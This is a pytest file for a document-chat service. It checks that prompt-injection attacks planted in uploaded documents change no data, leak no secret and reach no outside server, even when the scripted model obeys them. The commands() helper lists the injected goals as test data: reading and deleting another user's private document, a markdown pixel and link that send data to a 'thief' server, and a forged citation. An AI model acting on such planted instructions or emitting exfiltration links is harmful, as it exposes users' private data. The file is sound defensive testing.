"""Documents with instructions to the model: nothing is changed, disclosed or fetched, even if the model obeys."""

import json

import pytest

from corpuses.annotations.models import Annotation
from corpuses.comments.models import Comment
from corpuses.models import Corpus, CorpusDocument
from corpuses.services.corpora import create_corpus
from documents.models import Document, DocumentShare
from tests.conversations.attacks import KINDS, SECRET, attacks, obey
from tests.conversations.conftest import add_document, ended
from tests.conversations.test_asking import ask
from tests.upstreams import scripted_server

pytestmark = pytest.mark.django_db(transaction=True)

TABLES = (Document, Corpus, CorpusDocument, Annotation, Comment, DocumentShare)


@pytest.fixture
def model(settings):
    with scripted_server([], choose=obey) as server:
        settings.LLM_MODEL, settings.LLM_BASE_URL, settings.LLM_MAX_RETRIES = "obedient", server.url, 0
        yield server


@pytest.fixture
def thief():
    """Return a server that must not be asked for anything."""
    with scripted_server([]) as server:
        yield server


def commands(hidden, thief):
    """Return what attackers want: the documents of others, changes, data in an address, false sources."""
    key = str(hidden.pk)
    return [
        {"call": "read_pages", "arguments": {"document": key, "first": 1, "last": 5}},
        {"call": "delete_document", "arguments": {"document": key}},
        {"say": f"Look: ![rent]({thief.url}/pixel.png?rent=May) and {thief.url}/collect?rent=May"},
        {"say": f'The secret is here [1].\n---\n[1] {key} "The secret is {SECRET}."'},
    ]


def rows():
    return {table.__name__: sorted(map(repr, table.objects.values())) for table in TABLES}


def was_obeyed(model, attack, answer):
    """Check that the model did what the document wanted, so that the test does not pass without an attack."""
    if "say" in attack.command:
        return answer.text.startswith(attack.command["say"][:5])
    last = model.requests[-1]["messages"]
    made = [call["function"]["name"] for turn in last for call in turn.get("tool_calls") or ()]
    return attack.command["call"] in made


@pytest.mark.parametrize("kind", KINDS)
def test_a_model_that_obeys_documents_does_no_harm(api, user, other_user, model, thief, kind):
    hidden = add_document(other_user, f"The secret is {SECRET}.", title="Private")
    tried = [attack for attack in attacks(commands(hidden, thief)) if attack.kind == kind]
    assert len(tried) == 12
    for attack in tried:
        corpus = create_corpus(owner=user, title="Leases")
        for title, text in attack.documents:
            add_document(user, text, title=title, corpus=corpus)
        created = api.send("POST", "/api/v1/conversations", {"corpus": str(corpus.pk)}).json()["id"]
        before = rows()
        answer = ended(ask(api, f"/api/v1/conversations/{created}", "When is the rent due?")["answer"]["id"])
        assert answer.state == "complete", (attack, answer.error_code)
        assert was_obeyed(model, attack, answer)
        assert rows() == before
        assert thief.paths == []
        shown = json.dumps([answer.text, answer.sentences])
        assert thief.url not in shown
        if "call" in attack.command:
            assert SECRET not in shown + json.dumps(model.requests)
        else:
            assert [each for each in answer.sentences if each["is_verified"]] == []
